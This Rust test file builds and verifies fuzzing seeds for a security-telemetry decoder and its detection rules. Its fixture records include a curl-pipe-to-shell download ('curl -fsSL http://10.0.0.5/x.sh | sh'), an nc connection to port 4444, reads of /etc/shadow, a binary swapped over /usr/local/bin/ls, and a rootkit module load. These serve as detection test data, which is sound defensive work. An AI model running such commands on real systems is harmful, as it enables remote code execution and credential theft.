//! The committed seed corpus, `corpus/<target>/seed-*`: generated here and
//! checked against the files.
//!
//! - `decode_record`: one record per event kind and shape, encoded from the
//!   `exporter-common` structs exactly as the kernel writes them, plus a few
//!   malformed ones.
//! - `rules_condition`: every `condition:` of the built-in rules and of the
//!   rule engine's test data, one per file.
//! - `rules_file`: those rule files, whole.
//!
//! `cargo test` fails when a `seed-*` file is missing, differs or is stale;
//! `SYSOTEL_FUZZ_BLESS=1 cargo test` (or `cargo xtask fuzz --update-corpus`)
//! rewrites them. Files not named `seed-*` (added by hand) are left alone.

use std::{
    collections::BTreeMap,
    env, fs,
    path::{Path, PathBuf},
};

use exporter_common::{
    EventHeader, EventKind,
    event::Event as Record,
    events::{
        CgroupData, ConnData, ExecData, ExitData, ForkData, SecurityData, SlowSyscallData,
        cgroup::{CGROUP_PATH_MAX, CGROUP_PATH_TRUNCATED},
        conn::{CONN_ACCEPT, CONN_CLOSE, CONN_CONNECT, SOCKADDR_MAX},
        exec::{
            ARGS_MAX, EXEC_ARGS_MISSING, EXEC_ARGS_TRUNCATED, EXEC_CREDS_MISSING, EXEC_EXE_MEMFD, EXEC_EXE_UNLINKED,
            EXEC_FILENAME_TRUNCATED, FILENAME_MAX,
        },
        exit::EXIT_CODE_MISSING,
        security::{
            SEC_AUX_MAX, SEC_BASE_CWD, SEC_BASE_FD, SEC_BASE_PART_MAX, SEC_BASE_PARTS, SEC_BASE_TRUNCATED,
            SEC_DEREF_VALID, SEC_PATH_MAX, SEC_PATH0_TRUNCATED, SEC_READ_FAILED, SEC_SOCK_MAX, SEC_WATCH_UNDECIDED,
            SEC_WATCHED_PATH,
        },
        slow::{TARGET_MAX, TARGET_PATH, TARGET_SOCKADDR},
    },
};
use serde_yaml_ng::Value;
use sysotel::decode::decode;

/// Set to `1` to rewrite the seeds instead of checking them.
const BLESS: &str = "SYSOTEL_FUZZ_BLESS";

/// Rule files whose conditions and text seed the rules targets, relative to
/// the repository root.
const RULE_FILES: &[&str] = &["exporter/src/detect/default.yaml", "rules/tests/data/falco_style.yaml"];

/// The seeds of one target: file name to content.
type Seeds = BTreeMap<String, Vec<u8>>;

fn fuzz_dir() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn repo_root() -> &'static Path {
    fuzz_dir().parent().expect("fuzz/ has a parent")
}

// ------------------------------------------------------------ decode_record

/// A `#[repr(C)]` record as the bytes the ring buffer carries.
fn bytes_of<T: Copy>(value: &T) -> Vec<u8> {
    // SAFETY: only used on the exporter-common records, which are
    // `#[repr(C)]` integers and integer arrays without padding (pinned by
    // their const asserts), so every byte is initialised.
    unsafe { std::slice::from_raw_parts(std::ptr::from_ref(value).cast::<u8>(), size_of::<T>()) }.to_vec()
}

fn header<T>(kind: EventKind, pid: u32, comm: &[u8]) -> EventHeader {
    let mut name = [0u8; 16];
    name[..comm.len()].copy_from_slice(comm);
    EventHeader {
        kind: kind as u32,
        size: u32::try_from(size_of::<Record<T>>()).expect("record size fits u32"),
        ktime_ns: 86_400_123_456_789,
        pid,
        tid: pid,
        ppid: 1234,
        uid: 1000,
        gid: 1000,
        reserved: 0,
        cgroup_id: 63,
        start_time_ns: 86_399_000_000_000,
        comm: name,
    }
}

/// Copies what fits of `src` to the start of `dst`, as the kernel does;
/// returns the length copied.
fn copy_into(dst: &mut [u8], src: &[u8]) -> u32 {
    let len = src.len().min(dst.len());
    dst[..len].copy_from_slice(&src[..len]);
    u32::try_from(len).expect("short field")
}

fn len16(len: u32) -> u16 {
    u16::try_from(len).expect("short field")
}

fn exec(comm: &[u8], filename: &[u8], args: &[&[u8]], euid: u32, flags: u32) -> Vec<u8> {
    let mut data = ExecData {
        old_pid: 4321,
        flags,
        euid,
        egid: 1000,
        filename_len: 0,
        args_len: 0,
        filename: [0; FILENAME_MAX],
        args: [0; ARGS_MAX],
    };
    data.filename_len = copy_into(&mut data.filename, filename);
    let joined: Vec<u8> = args.iter().flat_map(|arg| arg.iter().copied().chain([0])).collect();
    data.args_len = copy_into(&mut data.args, &joined);
    bytes_of(&*Box::new(Record { header: header::<ExecData>(EventKind::Exec, 4321, comm), data }))
}

fn fork(child_pid: u32, child_start_time_ns: u64) -> Vec<u8> {
    let data = ForkData { child_pid, reserved: 0, child_start_time_ns };
    bytes_of(&Record { header: header::<ForkData>(EventKind::Fork, 4321, b"bash"), data })
}

fn exit(exit_code: u32, flags: u32) -> Vec<u8> {
    let data = ExitData { exit_code, flags };
    bytes_of(&Record { header: header::<ExitData>(EventKind::Exit, 4321, b"curl"), data })
}

fn slow(nr: u32, ret: i64, target_kind: u32, target: &[u8]) -> Vec<u8> {
    let mut data = SlowSyscallData {
        nr,
        target_kind,
        ret,
        start_ns: 86_400_000_000_000,
        duration_ns: 250_000_000,
        args: [0xffff_ff9c, 0x7ffd_1234_5678, 0],
        target_len: 0,
        reserved: 0,
        target: [0; TARGET_MAX],
    };
    data.target_len = copy_into(&mut data.target, target);
    bytes_of(&Record { header: header::<SlowSyscallData>(EventKind::SlowSyscall, 4321, b"postgres"), data })
}

/// `struct sockaddr_in` for `a.b.c.d:port`.
fn sockaddr_in(ip: [u8; 4], port: u16) -> Vec<u8> {
    let mut addr = vec![2, 0]; // AF_INET, host order on little-endian
    addr.extend_from_slice(&port.to_be_bytes());
    addr.extend_from_slice(&ip);
    addr.extend_from_slice(&[0; 8]);
    addr
}

/// `struct sockaddr_in6` for `[ip]:port`.
fn sockaddr_in6(ip: [u8; 16], port: u16) -> Vec<u8> {
    let mut addr = vec![10, 0]; // AF_INET6
    addr.extend_from_slice(&port.to_be_bytes());
    addr.extend_from_slice(&[0; 4]); // flow info
    addr.extend_from_slice(&ip);
    addr.extend_from_slice(&[0; 4]); // scope id
    addr
}

fn conn(op: u32, fd: u32, ret: i64, addr: &[u8], sent: u64, received: u64) -> Vec<u8> {
    let mut data = ConnData {
        op,
        fd,
        ret,
        start_ns: 86_400_000_000_000,
        duration_ns: 1_500_000,
        bytes_sent: sent,
        bytes_received: received,
        addr_len: 0,
        reserved: 0,
        addr: [0; SOCKADDR_MAX],
    };
    data.addr_len = copy_into(&mut data.addr, addr);
    bytes_of(&Record { header: header::<ConnData>(EventKind::Connection, 4321, b"curl"), data })
}

/// A `cgroup_mkdir` record for the cgroup at `path` (cut at
/// [`CGROUP_PATH_MAX`] bytes, and flagged so, when longer).
fn cgroup_mkdir(id: u64, path: &[u8]) -> Vec<u8> {
    let mut data = CgroupData { id, level: 0, flags: 0, path_len: 0, reserved: 0, path: [0; CGROUP_PATH_MAX] };
    data.path_len = copy_into(&mut data.path, path);
    data.level = u32::try_from(path.iter().filter(|&&b| b == b'/').count()).expect("few levels");
    if path.len() > CGROUP_PATH_MAX {
        data.flags = CGROUP_PATH_TRUNCATED;
    }
    bytes_of(&Record { header: header::<CgroupData>(EventKind::CgroupMkdir, 1, b"systemd"), data })
}

/// A `security` record; fill in the parts with the builder methods.
struct Sec(Box<Record<SecurityData>>);

impl Sec {
    fn new(comm: &[u8], nr: u32, ret: i64, args: [u64; 6]) -> Self {
        let data = SecurityData {
            nr,
            flags: 0,
            ret,
            args,
            deref: 0,
            path_len: [0; 2],
            aux_len: 0,
            sock_len: 0,
            base_depth: 0,
            reserved: [0; 3],
            path: [[0; SEC_PATH_MAX]; 2],
            base: [[0; SEC_BASE_PART_MAX]; SEC_BASE_PARTS],
            aux: [0; SEC_AUX_MAX],
            sock: [0; SEC_SOCK_MAX],
        };
        Self(Box::new(Record { header: header::<SecurityData>(EventKind::Security, 4321, comm), data }))
    }

    fn flags(mut self, flags: u32) -> Self {
        self.0.data.flags |= flags;
        self
    }

    fn path(mut self, slot: usize, path: &[u8]) -> Self {
        self.0.data.path_len[slot] = len16(copy_into(&mut self.0.data.path[slot], path));
        self
    }

    fn aux(mut self, aux: &[u8]) -> Self {
        self.0.data.aux_len = len16(copy_into(&mut self.0.data.aux, aux));
        self
    }

    fn sock(mut self, sock: &[u8]) -> Self {
        self.0.data.sock_len = len16(copy_into(&mut self.0.data.sock, sock));
        self
    }

    fn deref(mut self, value: u64) -> Self {
        self.0.data.deref = value;
        self.flags(SEC_DEREF_VALID)
    }

    /// `base` as the kernel walks it: leaf first; `""` is a mount crossing.
    fn base(mut self, flag: u32, leaf_first: &[&[u8]]) -> Self {
        for (slot, part) in self.0.data.base.iter_mut().zip(leaf_first) {
            copy_into(slot, part);
        }
        self.0.data.base_depth = u16::try_from(leaf_first.len()).expect("few parts");
        self.flags(flag)
    }

    /// The record as the kernel sends it: only up to the end of the last
    /// region in use, with `size` saying so.
    fn bytes(&self) -> Vec<u8> {
        let mut record = self.0.clone();
        let size = size_of::<EventHeader>() + SecurityData::used_len(record.data.path_len, record.data.base_depth);
        let size = size.min(size_of::<Record<SecurityData>>());
        record.header.size = u32::try_from(size).expect("record size fits u32");
        let mut bytes = bytes_of(&*record);
        bytes.truncate(size);
        bytes
    }
}

// x86_64 syscall numbers used below.
const NR_OPENAT: u32 = 257;
const NR_UNLINKAT: u32 = 263;
const NR_RENAMEAT2: u32 = 316;
const NR_FCHMOD: u32 = 91;
const NR_CONNECT: u32 = 42;
const NR_MOUNT: u32 = 165;
const NR_MEMFD_CREATE: u32 = 319;
const NR_CAPSET: u32 = 126;
const NR_PTRACE: u32 = 101;
const NR_KILL: u32 = 62;
const NR_FINIT_MODULE: u32 = 313;
const AT_FDCWD: u64 = 0xffff_ff9c;

/// A named record.
type Seed = (&'static str, Vec<u8>);

fn process_seeds() -> Vec<Seed> {
    let long_filename: Vec<u8> = b"/opt/very/deep/".iter().copied().cycle().take(FILENAME_MAX).collect();
    let many_args: Vec<Vec<u8>> = (0..600).map(|i| format!("--arg{i}").into_bytes()).collect();
    let many_args: Vec<&[u8]> = many_args.iter().map(Vec::as_slice).collect();
    vec![
        ("exec-echo", exec(b"bash", b"/bin/echo", &[b"/bin/echo", b"hello", b"world"], 1000, 0)),
        (
            "exec-shell-pipe",
            exec(b"bash", b"/bin/sh", &[b"sh", b"-c", b"curl -fsSL http://10.0.0.5/x.sh | sh"], 1000, 0),
        ),
        ("exec-sudo", exec(b"bash", b"/usr/bin/sudo", &[b"sudo", b"-u", b"root", b"id"], 0, 0)),
        ("exec-args-truncated", exec(b"python3", b"/usr/bin/python3", &many_args, 1000, EXEC_ARGS_TRUNCATED)),
        ("exec-filename-truncated", exec(b"sh", &long_filename, &[b"x"], 1000, EXEC_FILENAME_TRUNCATED)),
        ("exec-args-missing", exec(b"runc", b"/usr/sbin/runc", &[], 0, EXEC_ARGS_MISSING | EXEC_CREDS_MISSING)),
        (
            "exec-memfd",
            exec(b"loader", b"/proc/self/fd/3", &[b"[kworker/0:1]"], 1000, EXEC_EXE_MEMFD | EXEC_EXE_UNLINKED),
        ),
        ("exec-non-utf8", exec(b"sh", b"/tmp/\xff\xfe/run", &[b"\xc3\x28", b""], 1000, 0)),
        ("fork", fork(4400, 86_400_200_000_000)),
        ("fork-no-start-time", fork(4401, 0)),
        ("exit-code-1", exit(1 << 8, 0)),
        ("exit-signal-kill", exit(9, 0)),
        ("exit-core-dump", exit(0x80 | 0x0b, 0)),
        ("exit-code-missing", exit(0, EXIT_CODE_MISSING)),
    ]
}

fn syscall_seeds() -> Vec<Seed> {
    let deep: Vec<u8> = b"/kubepods.slice/".iter().copied().cycle().take(CGROUP_PATH_MAX + 16).collect();
    vec![
        (
            "cgroup_mkdir-pod-container",
            cgroup_mkdir(
                9_876,
                b"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod1b2c.slice/\
                  cri-containerd-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope",
            ),
        ),
        ("cgroup_mkdir-truncated", cgroup_mkdir(9_877, &deep)),
        ("slow_syscall-openat", slow(NR_OPENAT, 3, TARGET_PATH, b"/var/lib/postgresql/16/main/base/1/1259")),
        ("slow_syscall-connect", slow(NR_CONNECT, -115, TARGET_SOCKADDR, &sockaddr_in([10, 96, 0, 10], 5432))),
        ("slow_syscall-fsync", slow(74, 0, 0, b"")),
        ("connection-connect-ipv4", conn(CONN_CONNECT, 3, 0, &sockaddr_in([10, 96, 0, 1], 443), 0, 0)),
        (
            "connection-connect-ipv6-inprogress",
            conn(
                CONN_CONNECT,
                5,
                -115,
                &sockaddr_in6([0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1], 80),
                0,
                0,
            ),
        ),
        ("connection-accept-ipv6", conn(CONN_ACCEPT, 7, 7, &sockaddr_in6([0; 16], 0), 0, 0)),
        ("connection-close", conn(CONN_CLOSE, 3, 0, b"", 1_048_576, 73_421)),
    ]
}

fn security_seeds() -> Vec<Seed> {
    let long_path: Vec<u8> =
        b"/var/lib/containers/storage/overlay/".iter().copied().cycle().take(SEC_PATH_MAX).collect();
    let shadow = Sec::new(b"cat", NR_OPENAT, 3, [AT_FDCWD, 0x5555_0000_1000, 0, 0, 0, 0]);
    vec![
        ("security-openat-shadow", shadow.path(0, b"/etc/shadow").flags(SEC_WATCHED_PATH).bytes()),
        (
            "security-openat-relative",
            Sec::new(b"vim", NR_OPENAT, 4, [AT_FDCWD, 0x5555_0000_2000, 0o1101, 0o644, 0, 0])
                .path(0, b"authorized_keys")
                .base(SEC_BASE_CWD, &[b".ssh", b"root"])
                .bytes(),
        ),
        (
            "security-openat-undecided",
            Sec::new(b"cat", NR_OPENAT, 3, [AT_FDCWD, 0x5555_0000_2000, 0, 0, 0, 0])
                .path(0, b"../etc/./shadow")
                .flags(SEC_WATCH_UNDECIDED)
                .base(SEC_BASE_CWD, &[b"root"])
                .bytes(),
        ),
        (
            "security-openat-container-cwd",
            Sec::new(b"sh", NR_OPENAT, -13, [AT_FDCWD, 0x5555_0000_2000, 0o101, 0o600, 0, 0])
                .path(0, b"passwd")
                .base(SEC_BASE_CWD, &[b"etc", b"", b"merged", b"a1b2c3"])
                .bytes(),
        ),
        (
            "security-openat-truncated",
            Sec::new(b"tar", NR_OPENAT, 5, [AT_FDCWD, 0x5555_0000_3000, 0o1101, 0o644, 0, 0])
                .path(0, &long_path)
                .flags(SEC_PATH0_TRUNCATED)
                .base(SEC_BASE_CWD | SEC_BASE_TRUNCATED, &[b"deep".as_slice(); SEC_BASE_PARTS])
                .bytes(),
        ),
        (
            "security-unlinkat-fd",
            Sec::new(b"rm", NR_UNLINKAT, 0, [7, 0x5555_0000_4000, 0, 0, 0, 0])
                .path(0, b"auth.log")
                .base(SEC_BASE_FD, &[b"log", b"var"])
                .bytes(),
        ),
        (
            "security-renameat2",
            Sec::new(b"mv", NR_RENAMEAT2, 0, [AT_FDCWD, 0x1000, AT_FDCWD, 0x2000, 0, 0])
                .path(0, b"/tmp/payload")
                .path(1, b"/usr/local/bin/ls")
                .bytes(),
        ),
        (
            "security-fchmod-root",
            Sec::new(b"chmod", NR_FCHMOD, 0, [3, 0o4755, 0, 0, 0, 0]).base(SEC_BASE_FD, &[]).bytes(),
        ),
        (
            "security-connect-ipv4",
            Sec::new(b"nc", NR_CONNECT, 0, [3, 0x7ffd_0000_1000, 16, 0, 0, 0])
                .sock(&sockaddr_in([198, 51, 100, 7], 4444))
                .bytes(),
        ),
        (
            "security-connect-unix",
            Sec::new(b"curl", NR_CONNECT, -2, [3, 0x7ffd_0000_1000, 27, 0, 0, 0])
                .sock(b"\x01\x00/run/containerd.sock\0")
                .bytes(),
        ),
        (
            "security-mount",
            Sec::new(b"mount", NR_MOUNT, 0, [0x1000, 0x2000, 0x3000, 0, 0, 0])
                .path(0, b"/dev/sda1")
                .path(1, b"/mnt/host")
                .aux(b"ext4")
                .bytes(),
        ),
        (
            "security-memfd-create",
            Sec::new(b"python3", NR_MEMFD_CREATE, 3, [0x1000, 1, 0, 0, 0, 0]).aux(b"jit-cache").bytes(),
        ),
        (
            "security-capset",
            Sec::new(b"bash", NR_CAPSET, 0, [0x1000, 0x2000, 0, 0, 0, 0]).deref(0x0000_0000_a80c_25fb).bytes(),
        ),
        ("security-ptrace-failed", Sec::new(b"gdb", NR_PTRACE, -1, [16, 1, 0, 0, 0, 0]).bytes()),
        ("security-kill", Sec::new(b"bash", NR_KILL, 0, [1, 9, 0, 0, 0, 0]).bytes()),
        (
            "security-finit-module-read-failed",
            Sec::new(b"insmod", NR_FINIT_MODULE, 0, [3, 0x1000, 0, 0, 0, 0])
                .flags(SEC_READ_FAILED)
                .base(SEC_BASE_FD, &[b"rootkit.ko", b"tmp"])
                .bytes(),
        ),
    ]
}

fn decode_seeds() -> Seeds {
    let mut seeds = process_seeds();
    seeds.extend(syscall_seeds());
    seeds.extend(security_seeds());
    // Malformed records: a short header, an unknown kind, a cut payload.
    let exit_record = exit(0, 0);
    let mut unknown = exit_record.clone();
    unknown[..4].copy_from_slice(&99u32.to_ne_bytes());
    let mut cut = conn(CONN_CLOSE, 3, 0, b"", 1, 1);
    cut.truncate(cut.len() - 1);
    seeds.extend([("invalid-short-header", exit_record[..40].to_vec()), ("invalid-unknown-kind", unknown)]);
    let mut cut_security =
        Sec::new(b"cat", NR_OPENAT, 3, [AT_FDCWD, 0x1000, 0, 0, 0, 0]).path(0, b"/etc/hosts").bytes();
    cut_security.truncate(cut_security.len() - 4);
    seeds.extend([("invalid-cut-payload", cut), ("invalid-security-cut", cut_security)]);
    seeds.into_iter().map(|(name, bytes)| (format!("seed-{name}.bin"), bytes)).collect()
}

// ------------------------------------------------------------ rules targets

fn read_rule_file(path: &str) -> String {
    fs::read_to_string(repo_root().join(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn stem(path: &str) -> &str {
    Path::new(path).file_stem().and_then(|s| s.to_str()).expect("UTF-8 file name")
}

/// `Shell in container!` -> `shell_in_container`.
fn slug(name: &str) -> String {
    let words: Vec<String> = name
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|word| !word.is_empty())
        .map(str::to_ascii_lowercase)
        .collect();
    words.join("_")
}

fn condition_seeds() -> Seeds {
    let mut seeds = Seeds::new();
    for path in RULE_FILES {
        let items: Vec<Value> =
            serde_yaml_ng::from_str(&read_rule_file(path)).unwrap_or_else(|e| panic!("{path}: {e}"));
        for item in &items {
            let Some(condition) = item.get("condition").and_then(Value::as_str) else { continue };
            let (kind, name) = ["rule", "macro"]
                .into_iter()
                .find_map(|kind| item.get(kind).and_then(Value::as_str).map(|name| (kind, name)))
                .unwrap_or_else(|| panic!("{path}: a condition outside a rule or macro"));
            let file = format!("seed-{}-{kind}-{}.txt", stem(path), slug(name));
            let previous = seeds.insert(file.clone(), condition.trim().as_bytes().to_vec());
            assert!(previous.is_none(), "two conditions would be written to {file}");
        }
    }
    seeds
}

fn rule_file_seeds() -> Seeds {
    RULE_FILES.iter().map(|path| (format!("seed-{}.yaml", stem(path)), read_rule_file(path).into_bytes())).collect()
}

// ------------------------------------------------------------ checking

fn seeds_of(target: &str) -> Seeds {
    match target {
        "decode_record" => decode_seeds(),
        "rules_condition" => condition_seeds(),
        "rules_file" => rule_file_seeds(),
        other => panic!("no seeds for {other}"),
    }
}

/// The `seed-*` files in `dir` (absent directory: none).
fn committed(dir: &Path) -> Seeds {
    let Ok(entries) = fs::read_dir(dir) else { return Seeds::new() };
    entries
        .map(|entry| entry.expect("readable corpus directory"))
        .filter_map(|entry| {
            let name = entry.file_name().into_string().ok()?;
            name.starts_with("seed-").then(|| (name, fs::read(entry.path()).expect("readable seed")))
        })
        .collect()
}

/// Checks (or with `SYSOTEL_FUZZ_BLESS=1` rewrites) the seeds of `target`.
fn check_or_bless(target: &str) {
    let dir: PathBuf = fuzz_dir().join("corpus").join(target);
    let expected = seeds_of(target);
    let found = committed(&dir);
    if env::var(BLESS).is_ok_and(|v| v == "1") {
        fs::create_dir_all(&dir).expect("create corpus directory");
        for stale in found.keys().filter(|name| !expected.contains_key(*name)) {
            fs::remove_file(dir.join(stale)).expect("remove stale seed");
        }
        for (name, bytes) in &expected {
            if found.get(name) != Some(bytes) {
                fs::write(dir.join(name), bytes).expect("write seed");
            }
        }
        return;
    }
    let missing: Vec<_> = expected.keys().filter(|name| !found.contains_key(*name)).collect();
    let stale: Vec<_> = found.keys().filter(|name| !expected.contains_key(*name)).collect();
    let changed: Vec<_> =
        expected.iter().filter(|(name, bytes)| found.get(*name).is_some_and(|b| b != *bytes)).collect();
    let changed: Vec<_> = changed.into_iter().map(|(name, _)| name).collect();
    assert!(
        missing.is_empty() && stale.is_empty() && changed.is_empty(),
        "fuzz/corpus/{target} is out of date (missing {missing:?}, stale {stale:?}, changed {changed:?}): \
         run `cargo xtask fuzz --update-corpus` and commit the result"
    );
}

#[test]
fn decode_record_seeds_are_current() {
    check_or_bless("decode_record");
}

#[test]
fn rules_condition_seeds_are_current() {
    check_or_bless("rules_condition");
}

#[test]
fn rules_file_seeds_are_current() {
    check_or_bless("rules_file");
}

#[test]
fn decode_seeds_are_real_records_of_every_kind() {
    let mut kinds = Vec::new();
    for (name, bytes) in decode_seeds() {
        let result = decode(&bytes);
        if name.starts_with("seed-invalid-") {
            assert!(result.is_err(), "{name} decoded: {result:?}");
            continue;
        }
        let event = result.unwrap_or_else(|e| panic!("{name}: {e}"));
        let kind = event.kind().as_str();
        assert!(name.starts_with(&format!("seed-{kind}-")) || name == format!("seed-{kind}.bin"), "{name} is {kind}");
        kinds.push(event.kind());
    }
    for kind in EventKind::ALL {
        assert!(kinds.contains(&kind), "no seed of kind {}", kind.as_str());
    }
}

#[test]
fn seed_corpus_stays_small() {
    let total: usize = ["decode_record", "rules_condition", "rules_file"]
        .iter()
        .flat_map(|t| seeds_of(t).into_values())
        .map(|b| b.len())
        .sum();
    assert!(total < 1 << 20, "seed corpus is {total} bytes");
}
